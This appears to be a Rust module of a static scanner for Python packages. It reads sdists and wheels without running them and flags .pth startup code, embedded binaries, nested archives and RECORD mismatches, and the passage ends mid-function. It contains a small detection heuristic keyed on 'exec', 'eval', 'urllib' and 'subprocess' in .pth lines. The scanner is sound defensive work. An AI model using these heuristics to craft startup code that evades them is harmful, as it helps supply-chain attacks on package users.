//! The static scanner: reads an sdist or wheel in memory (never extracted,
//! never executed) and reports what would run at install, import or
//! interpreter start and what it does with credentials.

pub mod analyze;
pub mod archive;
pub mod python;
pub mod record;
pub mod rules;
pub mod sparse;
pub mod stream;
pub mod words;

use sha2::Digest as _;

use crate::finding::{Confidence, RuleId, Severity};
pub use analyze::MemberFinding;
pub use archive::Limits;

/// The findings of one archive.
#[derive(Debug, Default)]
pub struct ArchiveScan {
    /// (member path, finding); member `None` for archive-level findings.
    pub findings: Vec<(Option<String>, MemberFinding)>,
    /// Members read.
    pub members: usize,
    /// Whether the read stopped early.
    pub incomplete: bool,
    /// What was not scanned and why (caps, corruption, unreadable nested
    /// archives): the package's scan status is `unknown` when not empty.
    pub gaps: Vec<String>,
    /// A wheel's members against its own RECORD.
    pub record: record::RecordCheck,
}

/// The scanner could not run at all (its embedded rules failed to compile).
#[derive(Debug, thiserror::Error)]
#[error("the scan rules do not compile: {0}")]
pub struct RulesError(pub String);

/// Text members worth reading: code that runs. Type stubs (`.pyi`) never do.
pub(crate) fn is_text(path: &str) -> bool {
    let l = path.to_ascii_lowercase();
    [".py", ".pyw", ".pth", ".sh", ".ps1", ".bat", ".cmd", ".vbs"]
        .iter()
        .any(|s| l.ends_with(s))
}

/// `.pth` lines that are known and harmless, by sha256 of the whitespace-normalised line.
const KNOWN_PTH_LINES: &[&str] = &[
    // setuptools' distutils-precedence.pth
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();",
    // coverage's subprocess measurement
    "import coverage; coverage.process_startup()",
    // pywin32
    "import pywin32_bootstrap",
    // editable installs (setuptools, hatch, pdm, uv)
    "import _virtualenv",
];

fn normalise(line: &str) -> String {
    line.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn known_pth_line(line: &str) -> bool {
    let n = normalise(line);
    let digest = sha2::Sha256::digest(n.as_bytes());
    if KNOWN_PTH_LINES
        .iter()
        .any(|k| sha2::Sha256::digest(normalise(k).as_bytes()) == digest)
    {
        return true;
    }
    // Editable-install finders: `import __editable___<name>_finder; __editable___<name>_finder.install(...)`
    if n.starts_with("import __editable__") && !n.contains("exec") && !n.contains("eval") {
        return true;
    }
    // Namespace-package `-nspkg.pth` lines (setuptools' template; only the package name varies).
    n.starts_with("import sys, types, os;")
        && n.contains("sys._getframe(1).f_locals['sitedir']")
        && !n.contains("exec")
        && !n.contains("eval")
        && !n.contains("urllib")
        && !n.contains("subprocess")
}

/// The module names `.pth` lines import (they run at every interpreter start).
fn pth_imports(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let l = line.trim_start();
        if (l.starts_with("import ") || l.starts_with("import\t"))
            && !known_pth_line(l)
            && let Some(startup) = python::startup_line(l)
        {
            // With its literal `exec('...')` code unfolded.
            out.extend(startup.imports.into_iter().map(|m| m.to_ascii_lowercase()));
            continue;
        }
        if (l.starts_with("import ") || l.starts_with("import\t")) && !known_pth_line(l) {
            for stmt in l.split(';') {
                if let Some(rest) = stmt.trim().strip_prefix("import ") {
                    for m in rest.split(',') {
                        let name = m.split_whitespace().next().unwrap_or("");
                        let top = name.split('.').next().unwrap_or("");
                        if !top.is_empty() {
                            out.push(top.to_ascii_lowercase());
                        }
                    }
                }
            }
        }
    }
    out
}

fn binary_kind(data: &[u8]) -> Option<&'static str> {
    if data.starts_with(b"\x7fELF") {
        Some("ELF executable")
    } else if data.starts_with(b"MZ") && data.len() > 64 {
        Some("Windows PE executable")
    } else if data.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
        || data.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
        || data.starts_with(&[0xca, 0xfe, 0xba, 0xbe])
    {
        Some("Mach-O executable")
    } else {
        None
    }
}

/// Whether a wheel's file name says it is pure Python (`-none-any.whl`).
fn pure_wheel(filename: &str) -> bool {
    filename.to_ascii_lowercase().ends_with("-none-any.whl")
}

/// How deep archives inside archives are read (a wheel in an sdist is 1).
const MAX_NESTING: usize = 2;

/// How many archives inside an archive are opened, and the largest opened:
/// the whole tree shares one decompression budget besides.
const MAX_NESTED: usize = 256;
const MAX_NESTED_SIZE: usize = 32 * 1024 * 1024;

/// Whether a member's name says it is an archive the scanner opens.
fn is_nested_archive(path: &str) -> bool {
    let l = path.to_ascii_lowercase();
    [
        ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar", ".egg",
    ]
    .iter()
    .any(|s| l.ends_with(s))
}

/// What the members of an archive (and of the archives inside it) leave for
/// the whole-archive passes, and the findings made as they streamed by.
struct Collector<'q> {
    /// `.pth` files: judged once every module is known.
    pth: Vec<(String, Vec<u8>)>,
    /// Top-level modules (path, place), analysed as modules as they stream
    /// by; a `.pth` may import them, and those are judged again.
    deferred: Vec<(String, usize)>,
    /// The places of first analyses that a judgement as startup code replaced.
    superseded: std::collections::HashSet<usize>,
    /// Text members seen so far (the order of what workers return).
    seen: usize,
    /// Executables: judged once setup.py is known.
    binaries: Vec<(String, u64, &'static str)>,
    /// Nested archives still to open: (path, bytes, depth, size); the bytes
    /// of one too large to open are not kept.
    nested: Vec<(String, Vec<u8>, usize, usize)>,
    setup_text: String,
    is_wheel: bool,
    findings: Vec<(Option<String>, MemberFinding)>,
    /// Directory names and module stems the archive ships (its own modules).
    modules: std::collections::BTreeSet<String>,
    /// Findings in scripts, judged once setup.py is known.
    scripts: Vec<(String, MemberFinding)>,
    /// Text members to analyse, analysed while the archive is still read.
    queue: &'q JobQueue,
    /// Python members of archives inside the archive, kept for what Python
    /// code runs as a file and for the loaders of executables (at most
    /// [`KEEP_EACH`] each, [`KEEP_TOTAL`] in all). The archive's own members
    /// are read again once it is known which are wanted.
    texts: std::collections::BTreeMap<String, Vec<u8>>,
    kept: usize,
    /// The archive's own `*.dist-info/RECORD`, if any.
    record: Option<Vec<u8>>,
    /// Every file member of the archive itself (not of nested ones).
    paths: Vec<String>,
    /// (path, RECORD-style sha256) of the archive's own members read whole.
    digests: Vec<(String, String)>,
}

impl Collector<'_> {
    /// One member, at nesting `depth` (0: the archive itself); `prefix` is
    /// the nested archive's path with a `!/` separator.
    fn member(&mut self, m: archive::Member, prefix: &str, depth: usize) {
        let path = format!("{prefix}{}", m.path);
        if depth == 0 && m.path.contains(".dist-info/") && m.path.ends_with("/WHEEL") {
            self.is_wheel = true;
        }
        // Hashed once: for the RECORD check and as the analysis memo's key.
        let sha256: Option<[u8; 32]> = m.data.as_deref().map(|d| sha2::Sha256::digest(d).into());
        if depth == 0 {
            self.paths.push(m.path.clone());
            if let Some(data) = m.data.as_deref()
                && let Some(sha) = &sha256
                && data.len() as u64 == m.size
            {
                self.digests
                    .push((m.path.clone(), record::encode_digest(sha)));
                if record::is_record(&m.path) {
                    self.record = Some(data.to_vec());
                }
            }
            let parts: Vec<&str> = m.path.split('/').filter(|c| !c.is_empty()).collect();
            for (i, c) in parts.iter().enumerate() {
                if let Some(stem) = c.strip_suffix(".py") {
                    self.modules.insert(stem.to_string());
                } else if i + 1 < parts.len() {
                    self.modules.insert((*c).to_string());
                }
            }
        }
        let (Some(data), Some(sha256)) = (m.data, sha256) else {
            return;
        };
        if is_nested_archive(&m.path) && archive::detect(&data).is_some() {
            let size = data.len();
            let data = if size > MAX_NESTED_SIZE {
                Vec::new()
            } else {
                data
            };
            self.nested.push((path, data, depth + 1, size));
            return;
        }
        if let Some(kind) = binary_kind(&data) {
            self.binaries.push((path, m.size, kind));
            return;
        }
        if !is_text(&m.path) {
            return;
        }
        let lower = m.path.to_ascii_lowercase();
        if lower.ends_with(".pth") {
            self.pth.push((path, data));
            return;
        }
        let role = analyze::role(&path, &[]);
        if role == analyze::Role::Install {
            self.setup_text.push_str(&String::from_utf8_lossy(&data));
        }
        // The archive's own members are read again if they are wanted;
        // those of an archive inside it cannot be.
        if depth > 0
            && lower.ends_with(".py")
            && data.len() <= KEEP_EACH
            && self.kept + data.len() <= KEEP_TOTAL
        {
            self.kept += data.len();
            self.texts.insert(path.clone(), data.clone());
        }
        let top_level = m.path.split('/').filter(|c| !c.is_empty()).count() <= 2;
        // Top-level Python modules are judged again if a `.pth` file imports
        // them; scripts are judged by whether setup.py names them.
        let script = SCRIPTS.iter().any(|x| lower.ends_with(x));
        let deferred = depth == 0 && top_level && role == analyze::Role::Module && !script;
        let job = Job {
            path,
            sha256,
            data,
            role,
            script,
            deferred,
            python: lower.ends_with(".py"),
            seen: self.seen,
        };
        self.seen += 1;
        if deferred {
            self.deferred.push((job.path.clone(), job.seen));
        }
        self.queue.push(job);
    }
}

/// The largest Python member kept (for code that runs it as a file, and for
/// the loaders of executables), and the most bytes kept in all.
const KEEP_EACH: usize = 1 << 20;
const KEEP_TOTAL: usize = 8 << 20;

/// A text member waiting for analysis.
struct Job {
    path: String,
    data: Vec<u8>,
    /// The sha256 of `data`.
    sha256: [u8; 32],
    role: analyze::Role,
    script: bool,
    /// A top-level module: its findings come after the `.pth` files', and
    /// a `.pth` that imports it has it judged again as startup code.
    deferred: bool,
    /// A Python file: what it runs as a file and the names it calls
    /// unasked are found too.
    python: bool,
    /// The member's place in the archive.
    seen: usize,
}

/// What a worker finds in one member.
#[derive(Default, Clone)]
struct Analysed {
    findings: Vec<MemberFinding>,
    /// Files the member runs as code (`exec(open(P).read())`).
    runs: Vec<python::RunFile>,
    /// Names it calls on import or install, with the modules it imports
    /// (see [`analyze::uncap_called`]).
    called: Vec<String>,
    imports: Vec<String>,
}

impl Analysed {
    /// The member's analysis, from the memo when the same bytes were
    /// analysed in the same circumstances earlier in this process.
    fn of(rules: &rules::Rules, job: &Job) -> Self {
        if job.data.len() < memo::MIN_BYTES {
            return Self::fresh(rules, job);
        }
        let key = memo::Key::of(job);
        if let Some(hit) = memo::get(&key) {
            return hit;
        }
        let found = Self::fresh(rules, job);
        memo::put(key, &found);
        found
    }

    fn fresh(rules: &rules::Rules, job: &Job) -> Self {
        let findings = analyze::analyze(rules, &job.path, &job.data, job.role);
        if !job.python {
            return Self {
                findings,
                ..Self::default()
            };
        }
        // Named by the role the path gives, as a runner: a top-level
        // module's role as a `.pth` import is its own finding's.
        let role = analyze::role(&job.path, &[]);
        let called = analyze::unasked_call_names(&job.data, role);
        let imports = if called.is_empty() {
            Vec::new()
        } else {
            analyze::imported_stems(&job.data)
        };
        Self {
            findings,
            runs: python::run_files(&text_of(&job.data)),
            called,
            imports,
        }
    }
}

/// Analyses of members already analysed in this process. An sdist and its
/// wheels ship the same files, and so do a release and the one before it:
/// each distinct file is analysed once per audit.
///
/// The key is everything [`Analysed::fresh`] reads: the bytes (by sha256,
/// so no crafted file can share the entry of another), the roles, whether
/// the path names Python, and the project name the path's first component
/// gives. The memo keeps analyses only, never bytes, and holds a bounded
/// number of them.
mod memo {
    use std::collections::HashMap;
    use std::sync::{Mutex, OnceLock};

    use sha2::{Digest as _, Sha256};

    use super::{Analysed, Job, analyze};

    /// One sha256 over everything the analysis reads (the member's own
    /// sha256, its roles, how its path names it, its project's tokens), so
    /// that an entry costs a few dozen bytes however long its path.
    #[derive(Hash, PartialEq, Eq)]
    pub(super) struct Key([u8; 32]);

    impl Key {
        pub(super) fn of(job: &Job) -> Self {
            let lower = job.path.to_ascii_lowercase();
            let mut h = Sha256::new();
            h.update(job.sha256);
            h.update([
                job.role as u8,
                analyze::role(&job.path, &[]) as u8,
                u8::from(job.python),
                u8::from(lower.ends_with(".py") || lower.ends_with(".pyw")),
            ]);
            for token in analyze::project_tokens(&job.path) {
                // Length-prefixed: no two lists of tokens hash the same bytes.
                h.update((token.len() as u64).to_le_bytes());
                h.update(token.as_bytes());
            }
            Self(h.finalize().into())
        }
    }

    /// Most analyses kept; past it the memo starts again (an audit of a few
    /// hundred packages holds some tens of thousands of distinct files).
    const MAX_ENTRIES: usize = 200_000;

    /// Members smaller than this are analysed again rather than hashed and
    /// looked up (the look-up costs about as much).
    pub(super) const MIN_BYTES: usize = 256;

    /// An analysis that found nothing (most of them) is kept as `None`.
    type Map = HashMap<Key, Option<Box<Analysed>>>;

    fn map() -> std::sync::MutexGuard<'static, Map> {
        static MAP: OnceLock<Mutex<Map>> = OnceLock::new();
        MAP.get_or_init(Mutex::default)
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    pub(super) fn get(key: &Key) -> Option<Analysed> {
        map()
            .get(key)
            .map(|found| found.as_deref().cloned().unwrap_or_default())
    }

    pub(super) fn put(key: Key, found: &Analysed) {
        let empty = found.findings.is_empty()
            && found.runs.is_empty()
            && found.called.is_empty()
            && found.imports.is_empty();
        let mut map = map();
        if map.len() >= MAX_ENTRIES {
            map.clear();
        }
        map.insert(key, (!empty).then(|| Box::new(found.clone())));
    }
}

/// Text members analysed as they are read: the reading thread queues them,
/// workers analyse them meanwhile, and the reader joins the workers once
/// the archive is read. Each member is independent; results keep the
/// members' order.
#[derive(Default)]
struct JobQueue {
    state: std::sync::Mutex<QueueState>,
    ready: std::sync::Condvar,
    /// Signalled when a worker takes a job: a reader waiting for room.
    room: std::sync::Condvar,
}

/// Bytes of member text waiting in the queue before the reader waits for
/// the workers: a reader that inflates faster than they analyse would
/// otherwise hold the whole archive's text.
const QUEUED_BYTES: usize = 4 << 20;

#[derive(Default)]
struct QueueState {
    waiting: std::collections::VecDeque<(usize, Job)>,
    /// Bytes of the members in `waiting`.
    waiting_bytes: usize,
    /// A worker panicked: the reader no longer waits for room.
    broken: bool,
    queued: usize,
    closed: bool,
    /// Analysed members (their bytes dropped), in any order.
    done: Vec<(usize, Job, Analysed)>,
}

impl JobQueue {
    fn state(&self) -> std::sync::MutexGuard<'_, QueueState> {
        // A worker that panicked is reported by its join; the queue's state
        // is whole between two statements.
        self.state
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn push(&self, job: Job) {
        let mut s = self.state();
        // Workers always exist while the reader pushes (and take jobs until
        // the queue is closed), so the wait ends.
        while s.waiting_bytes > QUEUED_BYTES && !s.waiting.is_empty() && !s.broken {
            s = self
                .room
                .wait(s)
                .unwrap_or_else(std::sync::PoisonError::into_inner);
        }
        s.waiting_bytes += job.data.len();
        let i = s.queued;
        s.queued += 1;
        s.waiting.push_back((i, job));
        drop(s);
        self.ready.notify_one();
    }

    /// No more members: workers return once the queue is empty.
    fn close(&self) {
        self.state().closed = true;
        self.ready.notify_all();
    }

    /// Analyses members until the queue is closed and empty.
    fn work(&self, rules: &rules::Rules) {
        // A worker that unwinds says so: the reader stops waiting for room
        // that no worker would make (the panic is reported at the join).
        struct Leaving<'a>(&'a JobQueue);
        impl Drop for Leaving<'_> {
            fn drop(&mut self) {
                if std::thread::panicking() {
                    self.0.state().broken = true;
                    self.0.room.notify_all();
                }
            }
        }
        let _leaving = Leaving(self);
        loop {
            let mut s = self.state();
            let (i, mut job) = loop {
                if let Some(next) = s.waiting.pop_front() {
                    s.waiting_bytes -= next.1.data.len();
                    self.room.notify_one();
                    break next;
                }
                if s.closed {
                    return;
                }
                s = self
                    .ready
                    .wait(s)
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
            };
            drop(s);
            let found = Analysed::of(rules, &job);
            job.data = Vec::new();
            self.state().done.push((i, job, found));
        }
    }

    /// Every member with its findings, in the order they were queued.
    fn finish(self) -> Vec<(Job, Analysed)> {
        let mut done = std::mem::take(
            &mut self
                .state
                .into_inner()
                .unwrap_or_else(std::sync::PoisonError::into_inner)
                .done,
        );
        done.sort_by_key(|(i, _, _)| *i);
        done.into_iter().map(|(_, j, f)| (j, f)).collect()
    }
}

/// Runs `read` (which queues members) while workers analyse what it
/// queues, then analyses what is left on this thread too. Every worker is
/// joined; one that panicked fails the scan as the reader would.
fn read_and_analyze<R>(rules: &rules::Rules, queue: &JobQueue, read: impl FnOnce() -> R) -> R {
    let workers = std::thread::available_parallelism()
        .map_or(1, std::num::NonZero::get)
        .saturating_sub(1)
        .clamp(1, 8);
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|_| scope.spawn(|| python::on_big_stack(|| queue.work(rules))))
            .collect();
        // Closed however `read` ends: a reader that unwound must not leave
        // the workers waiting (the scope would wait for them for ever).
        struct CloseOnDrop<'a>(&'a JobQueue);
        impl Drop for CloseOnDrop<'_> {
            fn drop(&mut self) {
                self.0.close();
            }
        }
        let closing = CloseOnDrop(queue);
        let out = read();
        drop(closing);
        queue.work(rules);
        for h in handles {
            h.join().unwrap_or_else(|p| std::panic::resume_unwind(p));
        }
        out
    })
}

/// Files Python code runs as code (the runner's path and role, and the
/// call), in the order of the members; and the names Python files call on
/// import or install, each with the modules of the files that call it.
type Runs = Vec<(String, analyze::Role, python::RunFile)>;
type Called = std::collections::HashMap<String, std::collections::HashSet<String>>;

fn runs_and_calls(analysed: &mut [(Job, Analysed)]) -> (Runs, Called) {
    let mut in_archive_order: Vec<&mut (Job, Analysed)> = analysed.iter_mut().collect();
    in_archive_order.sort_by_key(|(job, _)| job.seen);
    let mut runs = Vec::new();
    let mut called = Called::new();
    for (job, a) in in_archive_order {
        let role = analyze::role(&job.path, &[]);
        for run in std::mem::take(&mut a.runs) {
            runs.push((job.path.clone(), role, run));
        }
        for name in std::mem::take(&mut a.called) {
            called
                .entry(name)
                .or_default()
                .extend(a.imports.iter().cloned());
        }
    }
    (runs, called)
}

/// `bytes` as text, invalid UTF-8 replaced: valid text (nearly every file)
/// is checked by the standard library's faster validation and borrowed,
/// not walked chunk by chunk as `String::from_utf8_lossy` does.
pub(crate) fn text_of(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

/// Members the scanner reads whole (of the others, only the head): text
/// that runs, the wheel's `WHEEL` and `RECORD`, and archives inside.
pub fn wanted_whole(path: &str) -> bool {
    is_text(path) || path.ends_with("/WHEEL") || record::is_record(path) || is_nested_archive(path)
}

/// Shell, PowerShell and batch scripts: nothing runs them on install or
/// import unless the package's own code names them.
const SCRIPTS: &[&str] = &[".sh", ".ps1", ".bat", ".cmd", ".vbs"];

/// Scans an archive held in memory. `filename` is used only to tell wheels
/// from sdists for the binary check; the format comes from the bytes.
/// Archives inside it are opened too (to [`MAX_NESTING`] levels), their
/// members named `outer/inner.zip!/path`.
pub fn scan_bytes(
    filename: &str,
    bytes: &[u8],
    limits: &Limits,
) -> Result<ArchiveScan, RulesError> {
    scan_source(filename, archive::Source::Bytes(bytes), limits)
}

/// [`scan_bytes`] of an archive that has streamed in: a zip from the parts
/// of it that were kept, anything else whole. `None` when the read needed
/// bytes that were not kept (a central directory that disagrees with the
/// local headers): the file must then be read whole.
pub fn scan_held(
    filename: &str,
    held: stream::Held,
    limits: &Limits,
) -> Result<Option<ArchiveScan>, RulesError> {
    let sparse = match held.into_whole() {
        Ok(bytes) => return scan_bytes(filename, &bytes, limits).map(Some),
        Err(held) => held.into_sparse(),
    };
    let scan = scan_source(filename, archive::Source::Ranges(&sparse), limits)?;
    Ok(sparse.failure().is_none().then_some(scan))
}

/// [`scan_bytes`] of an archive as it streams in, read once
/// ([`archive::Once`]). `None` when the scan needed a second read (a file
/// setup.py runs, the loaders of a binary, a module a `.pth` imports) or a
/// zip could not be read so: the file must then be read whole.
pub fn scan_stream(
    filename: &str,
    stream: &archive::Once,
    limits: &Limits,
) -> Result<Option<ArchiveScan>, RulesError> {
    let scan = scan_source(filename, archive::Source::Stream(stream), limits)?;
    Ok(stream.failure().is_none().then_some(scan))
}

/// [`scan_bytes`] of an archive in memory or a wheel read by ranges.
pub fn scan_source(
    filename: &str,
    source: archive::Source<'_>,
    limits: &Limits,
) -> Result<ArchiveScan, RulesError> {
    // Every member is parsed on this one thread (and its workers), not on a
    // thread of its own.
    python::on_big_stack(|| scan_here(filename, source, limits))
}

fn scan_here(
    filename: &str,
    source: archive::Source<'_>,
    limits: &Limits,
) -> Result<ArchiveScan, RulesError> {
    let rules = rules::rules().map_err(RulesError)?;
    let queue = JobQueue::default();
    let (contents, c) = read_and_analyze(rules, &queue, || read_members(source, limits, &queue));
    let Collector {
        pth,
        binaries,
        setup_text,
        is_wheel,
        mut findings,
        modules: own_modules,
        mut scripts,
        mut texts,
        record,
        paths,
        digests,
        superseded,
        ..
    } = c;
    let mut analysed = queue.finish();
    // A module judged again as startup code keeps only that judgement (its
    // first analysis, as a module, shares its place).
    analysed
        .retain(|(job, _)| !(superseded.contains(&job.seen) && job.role == analyze::Role::Module));
    let (runs, called) = runs_and_calls(&mut analysed);
    // Top-level modules: their findings come after the `.pth` files'.
    let (streamed, deferred): (Vec<_>, Vec<_>) =
        analysed.into_iter().partition(|(job, _)| !job.deferred);
    for (job, results) in streamed {
        for f in results.findings {
            if job.script {
                scripts.push((job.path.clone(), f));
            } else {
                findings.push((Some(job.path.clone()), f));
            }
        }
    }
    let mut out = ArchiveScan {
        members: contents.members,
        incomplete: contents.incomplete,
        gaps: contents.gaps.clone(),
        findings,
        record: record::RecordCheck::default(),
    };
    if is_wheel {
        let (summary, disagreements) = record::check(record.as_deref(), &paths, &digests);
        out.record = summary;
        out.findings.extend(disagreements);
    }
    for a in &contents.anomalies {
        // Odd but harmless entries (test fixtures that are archives, links that
        // stay inside the archive) are recorded without noise; dangerous ones are high.
        let in_tests = a
            .path
            .as_deref()
            .is_some_and(|p| analyze::role(p, &[]) == analyze::Role::Test);
        let severity = if a.dangerous {
            Severity::High
        } else if in_tests {
            Severity::Info
        } else if a.what.starts_with("symbolic link") || a.what.starts_with("hard link") {
            Severity::Low
        } else {
            Severity::Medium
        };
        out.findings.push((
            a.path.clone(),
            MemberFinding {
                rule: RuleId::ArchiveAnomaly,
                severity,
                confidence: Confidence::High,
                line: None,
                message: a.what.clone(),
                evidence: Vec::new(),
            },
        ));
    }
    for (path, data) in &pth {
        out.findings.extend(
            pth_findings(rules, path, data, &own_modules)
                .into_iter()
                .map(|f| (Some(path.clone()), f)),
        );
    }
    for (job, results) in deferred {
        for f in results.findings {
            out.findings.push((Some(job.path.clone()), f));
        }
    }
    let pure = !is_wheel || pure_wheel(filename);
    let loaded: Vec<&str> = if pure {
        binaries
            .iter()
            .map(|(path, ..)| path.rsplit('/').next().unwrap_or(path))
            .collect()
    } else {
        Vec::new()
    };
    let loaders = read_wanted_again(source, limits, &runs, &loaded, &mut texts);
    run_as_code(rules, &runs, &texts, &mut out.findings);
    if pure {
        for (path, size, kind) in binaries {
            let base = path.rsplit('/').next().unwrap_or(&path);
            // The archive's own loader (found on the second read), or one in
            // an archive inside it (whose text was kept).
            let loader = [loaders.get(base).cloned(), loader_of(&texts, base)]
                .into_iter()
                .flatten()
                .max_by(Loader::rank);
            let used_at_install = names_file(&setup_text, base);
            let loaded_unasked = loader.as_ref().is_some_and(|l| l.starts_unasked);
            let mut evidence = vec![("size".into(), size.to_string())];
            if let Some(l) = &loader {
                evidence.push((
                    "loaded-by".into(),
                    format!(
                        "{}:{} ({}{})",
                        l.file,
                        l.line,
                        l.role.describe(),
                        if l.starts_unasked {
                            ", and starts a program unasked"
                        } else {
                            ""
                        }
                    ),
                ));
            }
            out.findings.push((
                Some(path.clone()),
                MemberFinding {
                    rule: RuleId::BinaryPayload,
                    severity: if used_at_install || loaded_unasked {
                        Severity::High
                    } else if analyze::role(&path, &[]) == analyze::Role::Test {
                        // Test data (an sdist's `tests/`): nothing installs it.
                        Severity::Low
                    } else {
                        Severity::Medium
                    },
                    confidence: Confidence::Medium,
                    line: None,
                    message: format!(
                        "{kind} ({size} bytes) in a {}{}",
                        if is_wheel {
                            "pure-Python wheel"
                        } else {
                            "source distribution"
                        },
                        if used_at_install {
                            ", named by setup.py"
                        } else {
                            ""
                        }
                    ),
                    evidence,
                },
            ));
        }
    }
    // A script setup.py does not name (CI helpers, tooling) does not run on
    // install or import: medium at most.
    for (path, mut f) in scripts {
        let base = path.rsplit('/').next().unwrap_or(&path);
        if !names_file(&setup_text, base) {
            // Said on every such finding, so that nothing later (a release
            // diff) lifts it again.
            f.severity = f.severity.min(Severity::Medium);
            f.evidence.push((
                "runs".into(),
                "only if someone runs this script: setup.py does not name it".into(),
            ));
        }
        out.findings.push((Some(path), f));
    }
    // An inner archive named by a `.pth` file or setup.py is on the import
    // path or run at install: what is in it runs like the rest.
    let mut launchers = setup_text.clone();
    for (_, data) in pth.iter().filter(|(p, _)| !p.contains("!/")) {
        launchers.push_str(&String::from_utf8_lossy(data));
    }
    analyze::uncap_called(&mut out.findings, &called);
    cap_nested(&mut out.findings, &launchers);
    Ok(out)
}

/// Reads the archive's own members again that the whole-archive passes
/// need, now that it is known which: every member with the file name of a
/// file Python code runs (`exec(open("README.txt").read())`), kept within
/// [`KEEP_EACH`] and [`KEEP_TOTAL`]; and the loaders of the executables
/// `loaded` (by file name), judged as they stream by, so that no text is
/// kept for them. The first read kept none of them: most archives need
/// neither, and those do not pay for a second read.
fn read_wanted_again(
    source: archive::Source<'_>,
    limits: &Limits,
    runs: &Runs,
    loaded: &[&str],
    texts: &mut std::collections::BTreeMap<String, Vec<u8>>,
) -> std::collections::BTreeMap<String, Loader> {
    let mut loaders: std::collections::BTreeMap<String, Loader> = std::collections::BTreeMap::new();
    let run_bases: std::collections::BTreeSet<String> = runs
        .iter()
        .filter_map(|(_, _, run)| {
            let path = run.path.replace('\\', "/");
            path.rsplit('/').next().map(str::to_string)
        })
        .collect();
    if run_bases.is_empty() && loaded.is_empty() {
        return loaders;
    }
    let base = |p: &str| p.rsplit('/').next().unwrap_or(p).to_string();
    let is_python = |p: &str| p.to_ascii_lowercase().ends_with(".py");
    let wanted = |p: &str| run_bases.contains(&base(p)) || (!loaded.is_empty() && is_python(p));
    let mut kept = 0usize;
    archive::read_source(source, limits, &wanted, &mut |m| {
        let Some(data) = m.data.filter(|d| d.len() <= KEEP_EACH) else {
            return;
        };
        if is_python(&m.path) && !loaded.is_empty() {
            // Decoded once for every executable it may name.
            let text = text_of(&data);
            for b in loaded {
                if let Some(l) = loader_in(&m.path, &text, b) {
                    let better = loaders
                        .get(*b)
                        .is_none_or(|best| Loader::rank(&l, best).is_gt());
                    if better {
                        loaders.insert((*b).to_string(), l);
                    }
                }
            }
        }
        if run_bases.contains(&base(&m.path)) && kept + data.len() <= KEEP_TOTAL {
            kept += data.len();
            texts.insert(m.path, data);
        }
    });
    loaders
}

/// Reads the archive and the archives inside it, queueing text members for
/// analysis as they stream by; top-level modules that a `.pth` file imports
/// are read again once every `.pth` is known ([`startup_again`]).
fn read_members<'q>(
    source: archive::Source<'_>,
    limits: &Limits,
    queue: &'q JobQueue,
) -> (archive::Contents, Collector<'q>) {
    // Text members and nested archives are read in full; of the rest only
    // the head (for magic numbers).
    let keep = |p: &str| wanted_whole(p);
    let mut c = Collector {
        pth: Vec::new(),
        deferred: Vec::new(),
        superseded: std::collections::HashSet::new(),
        binaries: Vec::new(),
        nested: Vec::new(),
        setup_text: String::new(),
        is_wheel: false,
        findings: Vec::new(),
        modules: std::collections::BTreeSet::new(),
        scripts: Vec::new(),
        queue,
        texts: std::collections::BTreeMap::new(),
        kept: 0,
        seen: 0,
        record: None,
        paths: Vec::new(),
        digests: Vec::new(),
    };
    let mut contents = archive::read_source(source, limits, &keep, &mut |m| c.member(m, "", 0));
    let mut opened = 0usize;
    while let Some((path, data, depth, size)) = c.nested.pop() {
        // Test fixtures are often broken or hostile archives on purpose
        // (extractors' tests): what cannot be read there is said, not a gap.
        let fixture = analyze::role(&path, &[]) == analyze::Role::Test;
        let refused = if depth > MAX_NESTING {
            Some(format!(
                "an archive nested more than {MAX_NESTING} deep: not opened"
            ))
        } else if opened >= MAX_NESTED {
            Some(format!(
                "more than {MAX_NESTED} archives inside the archive: not opened"
            ))
        } else if size > MAX_NESTED_SIZE {
            Some(format!(
                "an archive inside the archive larger than {} MiB: not opened",
                MAX_NESTED_SIZE >> 20
            ))
        } else if contents.decompressed >= limits.max_total {
            Some("the decompression budget of the scan is spent: not opened".into())
        } else {
            None
        };
        if let Some(what) = refused {
            contents.anomalies.push(archive::Anomaly {
                path: Some(path.clone()),
                what: what.clone(),
                dangerous: false,
            });
            if !fixture {
                contents.gaps.push(format!("{path}: {what}"));
                contents.incomplete = true;
            }
            continue;
        }
        opened += 1;
        let prefix = format!("{path}!/");
        let shared = Limits {
            spent: contents.decompressed,
            ..limits.clone()
        };
        let inner = archive::read(&data, &shared, &keep, &mut |m| c.member(m, &prefix, depth));
        contents.decompressed = inner.decompressed;
        contents.members += inner.members;
        // Nobody extracts an inner archive on install: its traversal or
        // links are facts about the data, not a danger to the installer.
        for mut a in inner.anomalies {
            a.path = Some(match a.path {
                Some(p) => format!("{prefix}{p}"),
                None => path.clone(),
            });
            a.dangerous = false;
            contents.anomalies.push(a);
        }
        if !fixture {
            for g in inner.gaps {
                contents
                    .gaps
                    .push(format!("{path} (an archive inside the archive): {g}"));
            }
            contents.incomplete |= inner.incomplete;
        }
    }
    // Top-level modules a `.pth` imports run at every start: their role is
    // known once every `.pth` is.
    let startup_modules: Vec<String> = c
        .pth
        .iter()
        .flat_map(|(_, data)| pth_imports(&String::from_utf8_lossy(data)))
        .collect();
    startup_again(source, limits, &startup_modules, &mut c);
    (contents, c)
}

/// Reads again the top-level modules a `.pth` file imports (they run at
/// every start) and queues them as startup code, in their place in the
/// archive; their first analysis, as modules, is superseded. No module's
/// text waits for the `.pth` files meanwhile: most archives have none.
fn startup_again(
    source: archive::Source<'_>,
    limits: &Limits,
    startup_modules: &[String],
    c: &mut Collector<'_>,
) {
    let again: std::collections::BTreeMap<String, usize> = std::mem::take(&mut c.deferred)
        .into_iter()
        .filter(|(path, _)| analyze::role(path, startup_modules) != analyze::Role::Module)
